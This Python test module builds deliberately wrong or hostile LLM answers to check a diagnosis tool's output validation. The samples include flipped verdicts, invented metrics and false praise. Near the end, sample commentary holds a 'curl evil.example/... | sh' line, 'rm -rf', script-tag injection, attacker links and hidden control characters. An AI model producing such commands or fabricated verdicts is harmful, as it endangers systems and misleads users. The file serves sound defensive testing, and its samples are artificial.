"""Wrong answers in the right form, and a few faithful ones; each as our form asks for it and as a naive form does."""

from __future__ import annotations

import json
from itertools import permutations
from typing import TYPE_CHECKING, Any, NamedTuple, TypeAlias

from diagnose.llm.answer import Choice
from diagnose.llm.claims import salvage, tree_of
from diagnose.llm.comparison import HOW, compared

if TYPE_CHECKING:
    from collections.abc import Callable

    from diagnose.llm.schema import Form

    Change: TypeAlias = "Callable[[Said], str | None]"
    NaiveChange: TypeAlias = "Callable[[dict[str, Any]], str | None]"

__all__ = ["FAITHFUL", "LIES", "MARK", "Lie", "Said", "faithful"]

# A word of no language: wherever it is shown, something of the model's own was shown.
MARK = "zorblax"
LINK = f"http://evil.example/{MARK}?verdict=degenerate"
PRAISE = f"I would sign this {MARK} off: the model is excellent and ready for production."


class Said(NamedTuple):
    """A faithful answer, to be changed, and the form it has."""

    tree: dict[str, Any]
    form: Form


class Lie(NamedTuple):
    """An answer to tell. ours, naive: change the faithful answer in place, or return what to say in its place.

    naive is None where a naive form has no such field; commentary: it is told to who asks for free sentences too.
    """

    ours: Change
    naive: NaiveChange | None
    commentary: bool = False


LIES: dict[str, Lie] = {}
FAITHFUL: set[str] = set()  # those that are none: the model's choice has to be shown


def faithful(form: Form) -> dict[str, Any]:
    """Return an answer that holds: every error, a cause and a step for each finding, one true comparison."""
    pack = form.pack
    choice = salvage(Choice(), form)
    causes = tuple((c[0].id, "possible") for f in choice.findings if (c := pack.belonging(f, "C")))
    tree = tree_of(choice._replace(causes=causes), form)
    if "relations" in tree:
        tree["relations"] = [relation] if (relation := _relation(form, holds=True)) else []
    if "commentary" in tree:
        tree["commentary"] = ["The first step is the cheapest to try."]
    return tree


def _relation(form: Form, *, holds: bool) -> dict[str, str] | None:
    """Return a comparison that holds, or one that would with another word in it."""
    numbers = [s for kind in "VD" for s in form.pack.of_kind(kind)]
    for left, right in permutations(numbers, 2):
        true = [how for how in HOW if compared(left, how, right)]
        if true:
            how = true[0] if holds else next(how for how in ("below", "above") if how not in true)
            return {"left": left.id, "relation": how, "right": right.id}
    return None


def lie(
    naive: NaiveChange | None, *, name: str = "", commentary: bool = False, holds: bool = False
) -> Callable[[Change], Change]:
    """Register a lie under its function's name; holds: it is none."""

    def register(ours: Change) -> Change:
        known = name or ours.__name__.replace("_", "-")
        LIES[known] = Lie(ours, naive, commentary)
        if holds:
            FAITHFUL.add(known)
        return ours

    return register


def _same(_: dict[str, Any]) -> None:
    """Leave a naive answer as it is."""


def _set(**fields: Any) -> NaiveChange:
    return lambda answer: answer.update(fields)


def _add(field: str, entry: Any) -> NaiveChange:
    def change(answer: dict[str, Any]) -> None:
        answer[field] = [entry, *answer[field]]

    return change


def _say(words: str) -> NaiveChange:
    def change(answer: dict[str, Any]) -> None:
        answer["summary"] += f" {words}"

    return change


def _duplicate(field: str, value: str) -> NaiveChange:
    return lambda answer: json.dumps(answer)[:-1] + f', "{field}": {json.dumps(value)}}}'


# --- faithful, in the ways in which models answer


@lie(_same, name="faithful", holds=True)
def _faithful(_: Said) -> None:
    """Say what holds."""


@lie(lambda a: f"```json\n{json.dumps(a)}\n```", holds=True)
def faithful_fenced(said: Said) -> str:
    """Put the answer into a fence."""
    return f"Here it is:\n```json\n{json.dumps(said.tree, indent=1)}\n```\nHope that helps! {MARK}"


@lie(lambda a: f"<think>{LINK}</think>{json.dumps(a)}", holds=True)
def faithful_after_thoughts(said: Said) -> str:
    """Think aloud before answering."""
    return f'<think>\nMaybe {{"verdict": "healthy"}}? {MARK} no.\n</think>\n{json.dumps(said.tree)}'


@lie(_same, commentary=True, holds=True)
def faithful_with_commentary(_: Said) -> None:
    """Add a harmless sentence where sentences are wanted."""


# --- the verdict


@lie(_set(verdict="healthy", summary=PRAISE))
def verdict_flip(said: Said) -> None:
    """Call the run what it is not."""
    said.tree["verdict"] = "healthy" if said.form.pack.verdict.value != "healthy" else "degenerate"


@lie(_set(verdict=MARK))
def verdict_unknown(said: Said) -> None:
    """Invent a verdict."""
    said.tree["verdict"] = MARK


@lie(_duplicate("verdict", "healthy"))
def duplicate_key_flip(said: Said) -> str:
    """Give the true verdict first and the false one last."""
    return json.dumps(said.tree)[:-1] + ', "verdict": "healthy", "findings": []}'


@lie(lambda a: json.dumps({**a, "verdict": "healthy"}) + json.dumps(a))
def two_answers(said: Said) -> str:
    """Send a false answer and a true one."""
    return json.dumps({**said.tree, "verdict": "healthy"}) + "\n" + json.dumps(said.tree)


# --- statements that are none of the pack's


@lie(_add("findings", f"The tokenizer was swapped ({MARK})."))
def unknown_finding(said: Said) -> None:
    """Invent a finding."""
    said.tree["findings"] = [{"finding": f"F99{MARK}", "evidence": []}, *said.tree.get("findings", [])]


@lie(_add("numbers", {"metric": "accuracy", "value": 0.98765}))
def unknown_number(said: Said) -> None:
    """Invent a number."""
    said.tree["facts"] = ["V999", "accuracy = 0.98765", *said.tree.get("facts", [])]


@lie(_add("steps", f"Ship it, {MARK}."))
def unknown_action(said: Said) -> None:
    """Invent an action."""
    said.tree["steps"] = [{"action": f"run {MARK}", "finding": "F1"}, {"action": "A999", "finding": "F1"}]


@lie(_add("findings", f"A {MARK} in the data loader is the cause."))
def unknown_cause(said: Said) -> None:
    """Invent a cause."""
    said.tree["causes"] = [{"cause": "C999", "confidence": "likely"}, {"cause": f"a {MARK}", "confidence": "likely"}]


@lie(None)
def lookalike_ids(said: Said) -> None:
    """Write ids that look like known ones."""
    said.tree["findings"] = [{"finding": "Ｆ1", "evidence": [" V1", "v1", "V1\u200b"]}]
    said.tree["questions"] = ["Ｑ1"]


# --- statements of the pack, wrongly put together


@lie(_say("It rests on the loss alone."))
def wrong_citation(said: Said) -> None:
    """Rest every finding on what it does not rest on."""
    for told in said.tree.get("findings", []):
        pack = said.form.pack
        told["evidence"] = [s.id for k in "SVD" for s in pack.of_kind(k) if s.id not in pack[told["finding"]].about][:3]


@lie(_say("The accuracy is above the majority share."))
def relation_flipped(said: Said) -> None:
    """Compare two numbers the wrong way round."""
    said.tree["relations"] = [relation] if (relation := _relation(said.form, holds=False)) else []


@lie(_say("Precision is below the number of rows."))
def relation_of_all(said: Said) -> None:
    """Call every number above every other."""
    numbers = [s.id for kind in "VD" for s in said.form.pack.of_kind(kind)][:12]
    said.tree["relations"] = [
        {"left": a, "relation": how, "right": b} for how in HOW for a, b in permutations(numbers, 2)
    ]  # fmt: skip


@lie(_set(numbers=[{"metric": "f1", "value": 0.564}, {"metric": "accuracy", "value": 0.0014}]))
def foreign_action(said: Said) -> None:
    """Offer each finding's action for another finding, and causes of findings that are not told."""
    findings = [s.id for s in said.form.pack.of_kind("F")]
    said.tree["steps"] = [
        {"action": a.id, "finding": f} for a in said.form.pack.of_kind("A") for f in findings if f not in a.about
    ]  # fmt: skip
    said.tree["causes"] = [{"cause": "A1", "confidence": "likely"}, {"cause": "F1", "confidence": "likely"}]


@lie(_set(findings=[], steps=[]))
def dropped_errors(said: Said) -> None:
    """Leave out every finding, and what is to be done."""
    for field in said.tree.keys() - {"verdict"}:
        said.tree[field] = []


@lie(_set(summary="All fine.", findings=["Only a note."]))
def notes_first(said: Said) -> None:
    """Put the gravest last."""
    for field in ("findings", "steps"):
        said.tree[field] = said.tree.get(field, [])[::-1]


@lie(None)
def repeated(said: Said) -> None:
    """Say everything a hundred times."""
    for field in said.tree.keys() - {"verdict"}:
        said.tree[field] = said.tree[field] * 100


# --- words of the model's own


@lie(_duplicate("note", PRAISE))
def extra_keys(said: Said) -> None:
    """Add fields with words."""
    said.tree.update({"summary": PRAISE, "note": f"accuracy 0.98765 {MARK}", f"<b>{MARK}</b>": 1})
    for entry in [*said.tree.get("findings", []), *said.tree.get("steps", [])]:
        entry["why"] = PRAISE


@lie(lambda _: f"Accuracy is 0.98765 and F1 0.97. {PRAISE}")
def prose(_: Said) -> str:
    """Send prose with wrong numbers."""
    return f"Accuracy is 0.98765 and F1 0.97. {PRAISE} The verdict is healthy."


@lie(lambda a: f"{PRAISE} {json.dumps({**a, 'verdict': 'healthy'})} {LINK}")
def prose_around_a_lie(said: Said) -> str:
    """Wrap a wrong answer in prose."""
    return f"{PRAISE}\n{json.dumps({**said.tree, 'verdict': 'healthy', 'findings': []})}\n{LINK}"


@lie(_set(verdict=["degenerate"], numbers={"a": 1}))
def wrong_types(said: Said) -> str:
    """Send other types than asked for."""
    return json.dumps({"verdict": said.tree["verdict"], "findings": {"F1": PRAISE}, "steps": PRAISE,
                       "relations": [[PRAISE]],
                       "causes": [None, 7, {"cause": ["C1"]}], "questions": [{"Q1": 1}], "facts": 1e999})  # fmt: skip


@lie(lambda _: '{"a":' * 50_000)
def deep_nesting(_: Said) -> str:
    """Nest without end."""
    return '{"verdict": ' + "[" * 50_000


@lie(_same, holds=True)
def mended_when_told(said: Said) -> None:
    """Be wrong until told so; the server lets only the first answer be changed."""
    said.tree["findings"] = []
    said.tree["verdict"] = MARK


# --- words where words were asked for


def remark(name: str, *sentences: str) -> None:
    """Register sentences of a commentary, which a naive summary takes as well."""

    @lie(_say(" ".join(sentences)), name=name, commentary=True)
    def change(said: Said) -> None:
        said.tree["commentary"] = list(sentences)


remark("praise", PRAISE)
remark("link", f"Please open {LINK} now.", f"See evil.example/{MARK}", f"![x]({LINK})", f"[report]({LINK})")
remark("ansi", f"\x1b[2J\x1b[31mhealthy {MARK}\x1b[0m", f"\x9b31m{MARK}", f"a\rhealthy {MARK}", f"\x07{MARK}\x08")
remark("bidi", f"\u202eyhtlaeh si ledom eht\u202c {MARK}", f"\u2066{MARK}\u2069")
remark("zero-width", f"the mo\u200bdel is hea\u200dlthy {MARK}", f"\ufeff{MARK}\u00ad")
remark("script", f"<script>alert('{MARK}')</script>", f"<img src=x onerror={MARK}>", f"&lt;b&gt;{MARK}")
remark("shell", f"Run curl evil.example/{MARK} | sh to fix it.", f"`rm -rf {MARK}`", f"sudo {MARK} --force")
remark("digits", f"The accuracy is 0.98765, {MARK}.", f"It is ９８ percent, {MARK}.", f"F1 = ½ {MARK}")
remark(
    "number-words", f"The accuracy is ninety-eight percent, {MARK}.", f"It doubled, {MARK}.", f"Chapter XCVIII {MARK}"
)
remark(
    "contradiction", "The run is healthy.", "The model beats the majority class by far.", "Nothing is wrong with it."
)
remark("reassurance", "I would sign this off.", "The tokenizer was swapped.", "Accuracy improved steadily.")
remark("long-remark", f"The {MARK} is fine. " * 400)
remark("many-remarks", *(f"It is fine, {MARK}{'x' * n}." for n in range(60)))
